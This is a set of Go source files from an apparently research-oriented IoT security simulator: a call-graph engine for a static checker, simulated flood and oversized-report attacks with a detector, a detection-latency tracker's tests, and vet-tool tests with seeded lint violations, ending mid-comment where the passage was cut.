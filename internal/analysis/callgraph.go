package analysis

// The module-wide call-graph engine. Three rule families reason about
// what a function reaches *transitively* — the taint engine (which
// values flow where), lockorder (which locks a call may acquire) and
// the determinism/shard-safety layer (does any callee read the wall
// clock, mutate shared package state, or allocate on a hot path). Each
// of them needs the same three ingredients: an index of every declared
// function keyed the way taint.go keys its summaries, resolved call
// edges out of every body, and a bottom-up fixed-point over those
// edges. This file extracts that machinery so all of them share one
// graph (and one tolerant type-check of the module).
//
// Edges are classified by how the callee is reached — a plain call, a
// deferred call, a go statement, a call made inside a nested function
// literal, or a bare method/function value reference — because the
// rules disagree about which of those transfer the caller's context:
// lockorder must not treat a closure's acquisitions as the creator's
// (the closure runs later, with nothing held), while detflow must
// (capturing a wall-clock read is already a determinism hazard). Each
// client passes a follow predicate and gets exactly the reachability
// it means.
//
// Receivers the type oracle cannot resolve fall back to a unique-name
// lookup over the module's declared methods (the taint engine's
// fallback); edges resolved that way carry Fallback=true so
// conservative clients can skip them.

import (
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// EdgeKind classifies how a caller reaches a callee.
type EdgeKind uint8

// Edge kinds recorded by the builder.
const (
	// EdgeCall is a plain call executed in the caller's frame.
	EdgeCall EdgeKind = iota
	// EdgeDefer is a deferred call: it still runs in the caller's frame,
	// only later.
	EdgeDefer
	// EdgeGo is a go statement: the callee runs on its own goroutine.
	EdgeGo
	// EdgeClosure is a call lexically inside a function literal nested in
	// the caller: it runs when (and if) the literal does.
	EdgeClosure
	// EdgeRef is a method value or function value reference — the callee
	// is not called here, but the reference may be invoked later.
	EdgeRef
)

// CallEdge is one resolved caller→callee edge.
type CallEdge struct {
	// Callee is the summary key of the target (see funcKey).
	Callee string
	// Pos is the call or reference site in the caller's fileset.
	Pos token.Pos
	// Kind records how the callee is reached.
	Kind EdgeKind
	// Fallback marks edges resolved through the unique-method-name
	// heuristic rather than real type information.
	Fallback bool
}

// GraphFunc is one declared function in the built graph.
type GraphFunc struct {
	Key  string
	Pkg  *Package
	File *File
	Decl *ast.FuncDecl
	Recv string
	// Edges is sorted by (Callee, Kind, Pos) and deduplicated, so every
	// traversal of the graph is deterministic.
	Edges []CallEdge
}

// CallGraph is the module's call graph plus the shared type oracle it
// was resolved with. Build is idempotent (first package set wins), so
// several analyzers can share one graph the way they share one oracle.
type CallGraph struct {
	oracle *typeOracle
	built  bool

	funcs map[string]*GraphFunc
	keys  []string // sorted
	// methodsByName backs the unique-name fallback for unresolved
	// receivers.
	methodsByName map[string][]string
}

// NewCallGraph returns an empty graph with its own type oracle; Build
// populates it.
func NewCallGraph() *CallGraph {
	return &CallGraph{
		oracle:        newTypeOracle(),
		funcs:         make(map[string]*GraphFunc),
		methodsByName: make(map[string][]string),
	}
}

// Build indexes every declared function (test files included — clients
// filter on File.Test) and resolves its outgoing edges. The first call
// wins; later calls are no-ops, matching the Prepare idempotence
// contract.
func (g *CallGraph) Build(pkgs []*Package) {
	if g.built {
		return
	}
	g.built = true
	g.oracle.check(pkgs)

	for _, pkg := range pkgs {
		for fi := range pkg.Files {
			file := &pkg.Files[fi]
			for _, decl := range file.AST.Decls {
				fd, ok := decl.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				recv := ""
				if fd.Recv != nil && len(fd.Recv.List) > 0 {
					recv = recvTypeName(fd.Recv.List[0].Type)
				}
				key := funcKey(pkg.ImportPath, recv, fd.Name.Name)
				if _, dup := g.funcs[key]; dup {
					continue
				}
				g.funcs[key] = &GraphFunc{Key: key, Pkg: pkg, File: file, Decl: fd, Recv: recv}
				g.keys = append(g.keys, key)
				if recv != "" {
					g.methodsByName[fd.Name.Name] = append(g.methodsByName[fd.Name.Name], key)
				}
			}
		}
	}
	sort.Strings(g.keys)
	for _, name := range g.methodsByName {
		sort.Strings(name)
	}
	for _, key := range g.keys {
		fn := g.funcs[key]
		fn.Edges = g.edgesOf(fn)
	}
}

// Func returns the indexed function for a summary key, or nil.
func (g *CallGraph) Func(key string) *GraphFunc { return g.funcs[key] }

// Keys returns the sorted summary keys of every indexed function.
func (g *CallGraph) Keys() []string { return g.keys }

// edgesOf resolves one function's outgoing edges. Kind classification
// works off lexical position: a call inside any nested FuncLit is
// EdgeClosure; otherwise the exact CallExpr of a defer/go statement is
// EdgeDefer/EdgeGo; everything else is EdgeCall.
func (g *CallGraph) edgesOf(fn *GraphFunc) []CallEdge {
	pt := g.oracle.typesOf(fn.Pkg)
	imports := importMap(fn.File.AST)

	var litRanges [][2]token.Pos
	deferred := make(map[*ast.CallExpr]bool)
	spawned := make(map[*ast.CallExpr]bool)
	callFuns := make(map[ast.Expr]bool)
	// selSels marks every selector's Sel identifier, so the bare-Ident
	// case below only fires for genuinely unqualified references and
	// does not duplicate the selector-level resolution.
	selSels := make(map[*ast.Ident]bool)
	ast.Inspect(fn.Decl.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.FuncLit:
			litRanges = append(litRanges, [2]token.Pos{n.Pos(), n.End()})
		case *ast.DeferStmt:
			deferred[n.Call] = true
		case *ast.GoStmt:
			spawned[n.Call] = true
		case *ast.SelectorExpr:
			selSels[n.Sel] = true
		case *ast.CallExpr:
			f := n.Fun
			for {
				if p, ok := f.(*ast.ParenExpr); ok {
					f = p.X
					continue
				}
				break
			}
			callFuns[f] = true
		}
		return true
	})
	inLit := func(pos token.Pos) bool {
		for _, r := range litRanges {
			if r[0] <= pos && pos < r[1] {
				return true
			}
		}
		return false
	}

	var out []CallEdge
	add := func(key string, pos token.Pos, kind EdgeKind, fallback bool) {
		if kind != EdgeRef && inLit(pos) {
			kind = EdgeClosure
		}
		out = append(out, CallEdge{Callee: key, Pos: pos, Kind: kind, Fallback: fallback})
	}
	ast.Inspect(fn.Decl.Body, func(n ast.Node) bool {
		switch n := n.(type) {
		case *ast.CallExpr:
			c, _ := resolveCall(pt, imports, fn.Pkg.ImportPath, n)
			if c.name == "" {
				return true
			}
			kind := EdgeCall
			switch {
			case deferred[n]:
				kind = EdgeDefer
			case spawned[n]:
				kind = EdgeGo
			}
			if key, fallback, ok := g.calleeKey(c); ok {
				add(key, n.Pos(), kind, fallback)
			}
		case *ast.SelectorExpr:
			if callFuns[n] {
				return true
			}
			// Method value (x.M as a value) via the oracle; package-level
			// function value (pkg.Fn as a value) via Uses.
			if pt != nil {
				if sel, ok := pt.info.Selections[n]; ok && sel.Kind() == types.MethodVal {
					obj := sel.Obj()
					if obj != nil && obj.Pkg() != nil {
						add(funcKey(obj.Pkg().Path(), namedOf(sel.Recv()), obj.Name()), n.Pos(), EdgeRef, false)
					}
					return true
				}
				if f, ok := pt.info.Uses[n.Sel].(*types.Func); ok && f.Pkg() != nil {
					add(funcKey(f.Pkg().Path(), "", f.Name()), n.Pos(), EdgeRef, false)
					return true
				}
			}
			// Syntactic fallback for pkg.Fn references when the oracle has
			// no entry (stubbed imports keep PkgName uses, so this only
			// fires for unchecked packages).
			if id, ok := n.X.(*ast.Ident); ok && !isLocalIdent(pt, id) {
				if path, ok := imports[id.Name]; ok {
					add(funcKey(path, "", n.Sel.Name), n.Pos(), EdgeRef, false)
				}
			}
			return true
		case *ast.Ident:
			if callFuns[n] || selSels[n] {
				return true
			}
			if pt != nil {
				if f, ok := pt.info.Uses[n].(*types.Func); ok && f.Pkg() != nil && f.Type() != nil {
					if sig, ok := f.Type().(*types.Signature); ok && sig.Recv() == nil {
						add(funcKey(f.Pkg().Path(), "", f.Name()), n.Pos(), EdgeRef, false)
					}
				}
			}
		}
		return true
	})

	sort.Slice(out, func(i, j int) bool {
		if out[i].Callee != out[j].Callee {
			return out[i].Callee < out[j].Callee
		}
		if out[i].Kind != out[j].Kind {
			return out[i].Kind < out[j].Kind
		}
		return out[i].Pos < out[j].Pos
	})
	dedup := out[:0]
	for i, e := range out {
		if i == 0 || e != out[i-1] {
			dedup = append(dedup, e)
		}
	}
	return dedup
}

// calleeKey turns a resolved callee into a summary key, applying the
// unique-method-name fallback for unresolved receivers.
func (g *CallGraph) calleeKey(c callee) (key string, fallback, ok bool) {
	if c.recv != "?" {
		return funcKey(c.pkg, c.recv, c.name), false, true
	}
	candidates := g.methodsByName[c.name]
	if len(candidates) != 1 {
		return "", false, false // unknown or ambiguous: stay conservative
	}
	return candidates[0], true, true
}

// ResolveKey resolves a call expression appearing in file to a summary
// key, with the same fallback calleeKey applies. Reporting passes use
// it so their per-site resolution matches the graph's edges exactly.
func (g *CallGraph) ResolveKey(pkg *Package, file *File, imports map[string]string, call *ast.CallExpr) (key string, fallback, ok bool) {
	c, _ := resolveCall(g.oracle.typesOf(pkg), imports, pkg.ImportPath, call)
	if c.name == "" {
		return "", false, false
	}
	return g.calleeKey(c)
}

// Fixpoint computes bottom-up transitive fact sets: every function's
// set is its direct facts unioned with the sets of each callee reached
// through an edge the follow predicate accepts. Sets are sorted and,
// when maxFacts > 0, truncated to their smallest maxFacts elements —
// clients that only need a witness cap at 1 and keep the fixpoint
// cheap. The iteration cap bounds adversarial (fuzzed) call graphs;
// real ones converge in a handful of rounds.
func (g *CallGraph) Fixpoint(direct map[string][]string, follow func(CallEdge) bool, maxFacts int) map[string][]string {
	out := make(map[string][]string, len(g.keys))
	for iter := 0; iter < 32; iter++ {
		changed := false
		for _, key := range g.keys {
			fn := g.funcs[key]
			set := make(map[string]bool)
			for _, f := range direct[key] {
				set[f] = true
			}
			for _, e := range fn.Edges {
				if !follow(e) {
					continue
				}
				for _, f := range out[e.Callee] {
					set[f] = true
				}
			}
			facts := make([]string, 0, len(set))
			for f := range set {
				facts = append(facts, f)
			}
			sort.Strings(facts)
			if maxFacts > 0 && len(facts) > maxFacts {
				facts = facts[:maxFacts]
			}
			if !sameStrings(out[key], facts) {
				out[key] = facts
				changed = true
			}
		}
		if !changed {
			break
		}
	}
	return out
}

// Chain returns a deterministic shortest call chain (as summary keys,
// both endpoints included) from `from` to the first function isTarget
// accepts, following only edges the predicate allows. It returns nil
// when no such chain exists. BFS over the sorted edge lists makes the
// witness independent of map iteration order.
func (g *CallGraph) Chain(from string, isTarget func(string) bool, follow func(CallEdge) bool) []string {
	if g.funcs[from] == nil {
		return nil
	}
	parent := map[string]string{from: ""}
	queue := []string{from}
	for len(queue) > 0 {
		cur := queue[0]
		queue = queue[1:]
		if isTarget(cur) {
			var chain []string
			for k := cur; k != ""; k = parent[k] {
				chain = append(chain, k)
			}
			for i, j := 0, len(chain)-1; i < j; i, j = i+1, j-1 {
				chain[i], chain[j] = chain[j], chain[i]
			}
			return chain
		}
		fn := g.funcs[cur]
		if fn == nil {
			continue
		}
		for _, e := range fn.Edges {
			if !follow(e) {
				continue
			}
			if _, seen := parent[e.Callee]; seen {
				continue
			}
			parent[e.Callee] = cur
			queue = append(queue, e.Callee)
		}
	}
	return nil
}

// splitKey is funcKey's inverse.
func splitKey(key string) (pkg, recv, name string) {
	parts := strings.SplitN(key, "\x00", 3)
	for len(parts) < 3 {
		parts = append(parts, "")
	}
	return parts[0], parts[1], parts[2]
}

// FuncDisplay renders a summary key for diagnostics: "pkg.Name" or
// "pkg.(Recv).Name" with the import path trimmed to its last segment,
// matching the lock-identity rendering in lockorder.
func FuncDisplay(key string) string {
	pkg, recv, name := splitKey(key)
	if i := strings.LastIndex(pkg, "/"); i >= 0 {
		pkg = pkg[i+1:]
	}
	if recv != "" {
		return pkg + ".(" + recv + ")." + name
	}
	if pkg == "" {
		return name
	}
	return pkg + "." + name
}

// displayChain renders a witness chain for a diagnostic message.
func displayChain(chain []string) string {
	parts := make([]string, len(chain))
	for i, k := range chain {
		parts[i] = FuncDisplay(k)
	}
	return strings.Join(parts, " → ")
}
