package testbed

import (
	"fmt"
	"time"

	"xlf/internal/netsim"
	"xlf/internal/obs"
)

// City telemetry: the sim-clock rollup pipeline plus a scripted attack
// timeline and the per-window detector that closes the loop. Everything
// here is off (and allocation-free) unless CityConfig.RollupInterval is
// positive; the per-event hot paths stay in city.go.

// Attack classes the city's timeline supports.
const (
	// CityAttackFlood floods a victim sensor's district sink at ~3x the
	// district's aggregate report rate, spoofing the victim's source
	// address. The per-window detector flags the district and attributes
	// the flood by majority vote.
	CityAttackFlood = "flood"
	// CityAttackExfil streams oversized reports from a victim sensor;
	// the sink flags any report at or above exfilSizeThreshold.
	CityAttackExfil = "exfil"
)

// exfilSizeThreshold is the sink-side size cut: a city report is 64
// bytes, so anything at 4 KiB or above is flagged on sight.
const exfilSizeThreshold = 4096

// exfilSize is the oversized report the exfil attacker ships.
const exfilSize = 64 << 10

// CityAttack is one scripted attack in the city's timeline.
type CityAttack struct {
	// Class is CityAttackFlood or CityAttackExfil.
	Class string
	// At is the sim time the attack starts.
	At time.Duration
	// Duration is how long it runs (default 10s).
	Duration time.Duration
	// Sensors is how many victim sensors it touches (default 1); victims
	// are spread deterministically across the fleet.
	Sensors int
}

// DefaultCityAttacks is the timeline E10 and examples/smartcity run when
// telemetry is enabled: a two-sensor flood and a single-sensor slow
// exfiltration, overlapping so one rollup window sees both.
func DefaultCityAttacks() []CityAttack {
	return []CityAttack{
		{Class: CityAttackFlood, At: 15 * time.Second, Duration: 30 * time.Second, Sensors: 2},
		{Class: CityAttackExfil, At: 25 * time.Second, Duration: 20 * time.Second, Sensors: 1},
	}
}

// cityAttacker is one victim's attack stream: a reused packet re-armed on
// the shared attackTick, mirroring the citySensor idiom.
type cityAttacker struct {
	pkt      netsim.Packet
	city     *City
	class    string
	interval time.Duration
	start    time.Duration
	until    time.Duration
	injected bool
}

// CityTelemetry exposes the pipeline a telemetry-enabled city runs.
type CityTelemetry struct {
	Registry   *obs.Registry
	Rollup     *obs.Rollup
	Detections *obs.DetectionTracker
	Recorder   *obs.FlightRecorder
}

// Telemetry returns the city's telemetry pipeline, or nil when
// RollupInterval was not set.
func (c *City) Telemetry() *CityTelemetry {
	if c.reg == nil {
		return nil
	}
	return &CityTelemetry{
		Registry:   c.reg,
		Rollup:     c.rollup,
		Detections: c.det,
		Recorder:   c.rec,
	}
}

// initTelemetry wires the rollup, tracker, recorder, detector state and
// attack timeline. Called from NewCity after the sensor fleet is built;
// a no-op when RollupInterval is zero.
func (c *City) initTelemetry() error {
	cfg := &c.cfg
	if cfg.RollupInterval <= 0 {
		if len(cfg.Attacks) > 0 {
			return fmt.Errorf("testbed: city attacks require RollupInterval > 0 (the flood detector scans per rollup window)")
		}
		return nil
	}

	c.reg = obs.NewRegistry()
	c.cSent = c.reg.Counter("city.sent")
	c.cDelivered = c.reg.Counter("city.delivered")
	c.cAttackSent = c.reg.Counter("city.attack_sent")
	c.cFloodFlagged = c.reg.Counter("city.flood_flagged")
	c.cDropped = c.reg.Counter("net.dropped")
	c.det = obs.NewDetectionTracker(c.reg, cfg.DetectionSLO)
	c.rec = obs.NewFlightRecorder(0, 0)
	c.det.SetRecorder(c.rec)
	c.rollup = obs.NewRollup(c.reg, cfg.RollupInterval, cfg.RollupWindows)

	c.windowCount = make([]uint64, cfg.Districts)
	c.mgIdx = make([]int, cfg.Districts)
	c.mgCnt = make([]uint32, cfg.Districts)

	// The flood cut: twice the expected per-district deliveries per
	// window, plus slack so tiny fleets do not false-positive on report
	// staggering. The flood runs at ~3x the district aggregate, so a
	// flooded window clears the cut while benign windows sit at half it.
	perDistrict := float64(cfg.Devices) / float64(cfg.Districts)
	expect := perDistrict * float64(cfg.RollupInterval) / float64(cfg.ReportEvery)
	c.floodThreshold = uint64(2*expect) + 4

	if err := c.initAttacks(); err != nil {
		return err
	}

	// The rollup tick rides the kernel like the sensors do: a pooled
	// ScheduleArg re-arm, no closure per window, no jitter (a jittered
	// Ticker would consume kernel RNG and shift the sensor stagger).
	c.telemetryTick = func(any) {
		now := c.Kernel.Now()
		c.scanWindow(now)
		c.rollup.Tick(now)
		c.rec.Flush(now)
		c.Kernel.ScheduleArg(c.cfg.RollupInterval, "city-telemetry", c.telemetryTick, nil)
	}
	c.Kernel.ScheduleArg(cfg.RollupInterval, "city-telemetry", c.telemetryTick, nil)
	return nil
}

// initAttacks validates the timeline and arms one cityAttacker per
// (attack, victim) pair. Victims are picked by arithmetic spread — no RNG
// draws, so enabling attacks never shifts the sensor stagger stream.
func (c *City) initAttacks() error {
	cfg := &c.cfg
	for ai := range cfg.Attacks {
		atk := &cfg.Attacks[ai]
		if atk.Class != CityAttackFlood && atk.Class != CityAttackExfil {
			return fmt.Errorf("testbed: unknown city attack class %q", atk.Class)
		}
		if atk.At < 0 {
			return fmt.Errorf("testbed: city attack %d starts before the epoch", ai)
		}
		if atk.Duration <= 0 {
			atk.Duration = 10 * time.Second
		}
		if atk.Sensors <= 0 {
			atk.Sensors = 1
		}
		if atk.Sensors > cfg.Devices {
			atk.Sensors = cfg.Devices
		}
		for s := 0; s < atk.Sensors; s++ {
			victim := (ai + s*cfg.Devices/atk.Sensors) % cfg.Devices
			a := cityAttacker{
				city:  c,
				class: atk.Class,
				start: atk.At,
				until: atk.At + atk.Duration,
			}
			src := c.sensors[victim].pkt.Src
			dst := c.sensors[victim].pkt.Dst
			switch atk.Class {
			case CityAttackFlood:
				// ~3x the district's aggregate report rate, clamped
				// above the sink link latency so packet reuse stays
				// sound (delivered long before the next send).
				iv := time.Duration(float64(cfg.ReportEvery) * float64(cfg.Districts) / (3 * float64(cfg.Devices)))
				if iv < 500*time.Microsecond {
					iv = 500 * time.Microsecond
				}
				a.interval = iv
				a.pkt = netsim.Packet{Src: src, Dst: dst, Proto: "UDP", Size: 64}
			case CityAttackExfil:
				// A slow drip of oversized reports; the interval clears
				// the 64 KiB transmit time on the sink link.
				a.interval = 100 * time.Millisecond
				a.pkt = netsim.Packet{Src: src, Dst: dst, Proto: "UDP", Size: exfilSize}
			}
			c.attackers = append(c.attackers, a)
		}
	}
	if len(c.attackers) == 0 {
		return nil
	}

	// Shared tick, same shape as the sensor tick: mark ground truth on
	// the first packet, send, re-arm until the attack window closes.
	c.attackTick = func(a any) {
		at := a.(*cityAttacker)
		now := at.city.Kernel.Now()
		if now >= at.until {
			return
		}
		if !at.injected {
			at.injected = true
			at.city.det.Inject(now, at.class, string(at.pkt.Src))
		}
		at.city.cAttackSent.Inc()
		at.city.Net.Send(&at.pkt)
		at.city.Kernel.ScheduleArg(at.interval, "city-attack", at.city.attackTick, a)
	}
	for i := range c.attackers {
		a := &c.attackers[i]
		c.Kernel.ScheduleArg(a.start, "city-attack", c.attackTick, a)
	}
	return nil
}

// scanWindow is the per-window detector pass: flag flooded districts and
// attribute them by the surviving majority candidate, then account
// network drops, then reset the window state. Runs once per rollup
// window on the sim clock.
func (c *City) scanWindow(now time.Duration) {
	for d := range c.windowCount {
		if c.windowCount[d] > c.floodThreshold && c.mgCnt[d] > 0 {
			c.cFloodFlagged.Inc()
			c.det.Observe(now, string(c.sensors[c.mgIdx[d]].pkt.Src))
			c.rec.Trigger(now, obs.TriggerAlert)
		}
		c.windowCount[d] = 0
		c.mgCnt[d] = 0
	}
	if _, dropped, _ := c.Net.Stats(); dropped > c.lastDropped {
		c.cDropped.Add(dropped - c.lastDropped)
		c.lastDropped = dropped
		c.rec.Trigger(now, obs.TriggerDropSpike)
	}
}

// citySensorPrefix is the sensor address namespace ("lan:sensor-<i>").
const citySensorPrefix = "lan:sensor-"

// sensorIndexOf parses a sensor index out of its address without
// allocating; -1 for non-sensor sources. Per-delivery hot path.
//
//xlf:hotpath
func sensorIndexOf(a netsim.Addr) int {
	s := string(a)
	if len(s) <= len(citySensorPrefix) || s[:len(citySensorPrefix)] != citySensorPrefix {
		return -1
	}
	n := 0
	for i := len(citySensorPrefix); i < len(s); i++ {
		ch := s[i]
		if ch < '0' || ch > '9' {
			return -1
		}
		n = n*10 + int(ch-'0')
	}
	return n
}
