// Package exp contains the reproduction experiments: the regeneration of
// every table and figure in the paper (T1-T3, F1-F4) and the quantitative
// experiments the paper motivates but does not report (E1-E10; see
// DESIGN.md's per-experiment index). Each experiment is a pure function of
// its seed, shared between cmd/xlf-bench and the root benchmarks.
package exp

import (
	"fmt"
	"strings"
	"time"

	"xlf/internal/attack"
	"xlf/internal/service"
)

// Result is one experiment's rendered output plus headline numbers for
// programmatic assertions.
type Result struct {
	ID     string
	Title  string
	Output string
	// Numbers holds headline metrics by name for tests/benches.
	Numbers map[string]float64
	// Telemetry is attached by the scheduler (wall time, allocations) and
	// serialized into BENCH artifacts. It is deliberately excluded from
	// String(): rendered reports stay byte-identical across machines and
	// parallelism levels.
	Telemetry *Telemetry
}

func (r *Result) String() string {
	return fmt.Sprintf("==== %s: %s ====\n%s", r.ID, r.Title, r.Output)
}

// num records a headline metric.
func (r *Result) num(k string, v float64) {
	if r.Numbers == nil {
		r.Numbers = make(map[string]float64)
	}
	r.Numbers[k] = v
}

// vulnerableFlaws is the legacy-platform configuration XLF protects.
func vulnerableFlaws() service.Flaws {
	return service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true}
}

// scenarioAttacks returns the composite attack campaign used by the E1/E8
// scenario, with its ground-truth victim set.
func scenarioAttacks() ([]attack.Attack, map[string]bool) {
	atks := []attack.Attack{
		&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 15 * time.Second},
		&attack.FirmwareModulation{Target: "cam-1"},
		&attack.BufferOverflow{Target: "wallpad-1", PayloadLen: 1024},
		&attack.RogueApp{
			AppID: "free-wallpaper", CoverDevice: "window-1", CoverCap: "contact",
			TargetDevice: "window-1", TargetCommand: "unlock",
		},
		&attack.MaliciousMail{Target: "fridge-1", Burst: 40},
	}
	victims := map[string]bool{
		"cam-1":     true, // mirai + firmware
		"wallpad-1": true,
		"window-1":  true,
		"fridge-1":  true,
	}
	return atks, victims
}

// All runs every experiment with the given seed under the standard
// environment, in report order.
func All(seed int64) []*Result { return AllEnv(NewEnv(seed)) }

// AllEnv runs every registry entry under env, in report order. With a
// deterministic clock family (NewStepEnv) the whole report replays
// byte-identically at any parallelism.
func AllEnv(env *Env) []*Result {
	return (&Scheduler{Parallel: 1}).Run(env, Registry())
}

// Render formats a set of results as one report.
func Render(results []*Result) string {
	var b strings.Builder
	for _, r := range results {
		b.WriteString(r.String())
		b.WriteString("\n")
	}
	return b.String()
}
