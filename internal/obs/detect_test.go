package obs

import (
	"testing"
	"time"
)

// TestDetectionLatency pins the basic inject-observe matching: latency
// lands in the class histogram and the counters move.
func TestDetectionLatency(t *testing.T) {
	reg := NewRegistry()
	d := NewDetectionTracker(reg, time.Minute)
	d.Inject(10*time.Second, "mirai", "cam-1")
	if !d.Observe(12*time.Second, "cam-1") {
		t.Fatal("observe did not match the pending injection")
	}
	if d.Observe(13*time.Second, "cam-1") {
		t.Error("second observe matched an already-cleared injection")
	}
	if d.Pending() != 0 {
		t.Errorf("pending = %d, want 0", d.Pending())
	}
	stats := d.Stats()
	if len(stats) != 1 || stats[0].Class != "mirai" || stats[0].Count != 1 {
		t.Fatalf("stats = %+v, want one mirai entry", stats)
	}
	// 2s lands in bucket [2^30, 2^31): the estimate is within 2x.
	if p50 := stats[0].P50; p50 < time.Second || p50 > 4*time.Second {
		t.Errorf("p50 = %s, want within 2x of 2s", p50)
	}
	if got := reg.Counter(DetectInjected).Value(); got != 1 {
		t.Errorf("injected counter = %d, want 1", got)
	}
	if got := reg.Counter(DetectDetected).Value(); got != 1 {
		t.Errorf("detected counter = %d, want 1", got)
	}
	if got := reg.Counter(DetectSLOBreach).Value(); got != 0 {
		t.Errorf("breach counter = %d, want 0 under a 1m SLO", got)
	}
}

// TestDetectionSLOBreach: latency above the SLO bumps the breach counter
// and fires the recorder's slo-breach trigger.
func TestDetectionSLOBreach(t *testing.T) {
	reg := NewRegistry()
	d := NewDetectionTracker(reg, time.Second)
	rec := NewFlightRecorder(4, 4)
	d.SetRecorder(rec)
	d.Inject(0, "exfil", "fridge-1")
	d.Observe(5*time.Second, "fridge-1")
	if got := reg.Counter(DetectSLOBreach).Value(); got != 1 {
		t.Errorf("breach counter = %d, want 1", got)
	}
	if rec.Triggered() != 1 {
		t.Errorf("recorder triggers = %d, want 1", rec.Triggered())
	}
	rec.Flush(6 * time.Second)
	dumps := rec.Dumps()
	if len(dumps) != 1 || dumps[0].Reasons[0] != "slo-breach" {
		t.Fatalf("dumps = %+v, want one slo-breach dump", dumps)
	}
}

// TestDetectionEarliestPendingWins: re-injecting an undetected device
// keeps the earliest timestamp, so the latency reading is conservative.
func TestDetectionEarliestPendingWins(t *testing.T) {
	reg := NewRegistry()
	d := NewDetectionTracker(reg, time.Hour)
	d.Inject(1*time.Second, "mirai", "cam-1")
	d.Inject(9*time.Second, "flood", "cam-1") // same victim, later attack
	d.Observe(11*time.Second, "cam-1")
	stats := d.Stats()
	if len(stats) != 1 || stats[0].Class != "mirai" {
		t.Fatalf("stats = %+v, want the earliest (mirai) injection matched", stats)
	}
	// Latency 10s, bucketed: within a factor of two.
	if p := stats[0].P50; p < 5*time.Second || p > 20*time.Second {
		t.Errorf("p50 = %s, want within 2x of 10s", p)
	}
	if got := reg.Counter(DetectInjected).Value(); got != 2 {
		t.Errorf("injected counter = %d, want 2 (both fires counted)", got)
	}
}

// TestDetectionStatsSorted: classes render in sorted order regardless of
// injection order.
func TestDetectionStatsSorted(t *testing.T) {
	d := NewDetectionTracker(nil, 0)
	d.Inject(0, "zeta", "d1")
	d.Inject(0, "alpha", "d2")
	d.Inject(0, "mid", "d3")
	d.Observe(1, "d1")
	d.Observe(1, "d2")
	d.Observe(1, "d3")
	stats := d.Stats()
	if len(stats) != 3 || stats[0].Class != "alpha" || stats[1].Class != "mid" || stats[2].Class != "zeta" {
		t.Fatalf("stats order = %+v, want alpha/mid/zeta", stats)
	}
	if d.SLO() != DefaultDetectionSLO {
		t.Errorf("SLO = %s, want default %s", d.SLO(), DefaultDetectionSLO)
	}
}

// TestDetectionNilSafety: the disabled tracker no-ops.
func TestDetectionNilSafety(t *testing.T) {
	var d *DetectionTracker
	d.Inject(0, "mirai", "cam-1")
	if d.Observe(1, "cam-1") {
		t.Error("nil tracker matched an injection")
	}
	d.SetRecorder(nil)
	if d.Pending() != 0 || d.Stats() != nil || d.SLO() != 0 || d.Registry() != nil {
		t.Error("nil tracker leaked state")
	}
}
