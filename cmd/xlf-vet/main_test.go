package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// repoRoot walks up to the module root so tests can vet the real tree.
func repoRoot(t *testing.T) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			t.Fatal("no go.mod above test directory")
		}
		dir = parent
	}
}

// TestRepoTipIsClean is the acceptance gate: xlf-vet over the whole
// module exits 0 with no output.
func TestRepoTipIsClean(t *testing.T) {
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", repoRoot(t), "./..."}, &stdout, &stderr)
	if code != 0 {
		t.Fatalf("exit %d, want 0\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	if stdout.Len() != 0 {
		t.Errorf("clean run printed findings:\n%s", stdout.String())
	}
}

func TestRepoTipJSONIsEmpty(t *testing.T) {
	var stdout, stderr bytes.Buffer
	if code := run([]string{"-root", repoRoot(t), "-json", "./..."}, &stdout, &stderr); code != 0 {
		t.Fatalf("exit %d, want 0; stderr: %s", code, stderr.String())
	}
	var findings []map[string]any
	if err := json.Unmarshal(stdout.Bytes(), &findings); err != nil {
		t.Fatalf("bad JSON: %v\n%s", err, stdout.String())
	}
	if len(findings) != 0 {
		t.Errorf("want no findings, got %v", findings)
	}
}

// seedModule writes a throwaway module named "xlf" (so the repo's rule
// configuration applies) containing one violation of each rule.
func seedModule(t *testing.T) string {
	t.Helper()
	root := t.TempDir()
	write := func(rel, content string) {
		t.Helper()
		path := filepath.Join(root, rel)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("go.mod", "module xlf\n\ngo 1.22\n")
	// layercheck: the device layer reaching into the service layer.
	write("internal/device/device.go", `package device

import "xlf/internal/service"

var _ = service.Cloud{}
`)
	write("internal/service/service.go", `package service

type Cloud struct{}
`)
	// determinism: a wall-clock read inside the simulator.
	write("internal/sim/sim.go", `package sim

import "time"

func Now() time.Time { return time.Now() }
`)
	// lockcheck: a mutex-holder copied through a value receiver.
	write("internal/core/core.go", `package core

import "sync"

type Engine struct {
	mu sync.Mutex
}

func (e Engine) Lock() { e.mu.Lock() }
`)
	// errdrop: a discarded verification error in xauth.
	write("internal/xauth/xauth.go", `package xauth

import "errors"

func Verify() error { return errors.New("bad") }

func Use() { Verify() }
`)
	return root
}

// TestSeededViolationsFail verifies each rule fires with a file:line:
// [rule] diagnostic and a non-zero exit.
func TestSeededViolationsFail(t *testing.T) {
	root := seedModule(t)
	var stdout, stderr bytes.Buffer
	code := run([]string{"-root", root, "./..."}, &stdout, &stderr)
	if code != 1 {
		t.Fatalf("exit %d, want 1\nstdout:\n%s\nstderr:\n%s", code, stdout.String(), stderr.String())
	}
	out := stdout.String()
	for _, want := range []struct{ file, rule string }{
		{"internal/device/device.go", "layercheck"},
		{"internal/sim/sim.go", "determinism"},
		{"internal/core/core.go", "lockcheck"},
		{"internal/xauth/xauth.go", "errdrop"},
	} {
		re := regexp.MustCompile(regexp.QuoteMeta(want.file) + `:\d+: \[` + want.rule + `\]`)
		if !re.MatchString(out) {
			t.Errorf("missing %s diagnostic for %s in output:\n%s", want.rule, want.file, out)
		}
	}
	// The seeded service/ package is reachable but clean; make sure noise
	// stays proportional (one finding per seeded violation, none extra
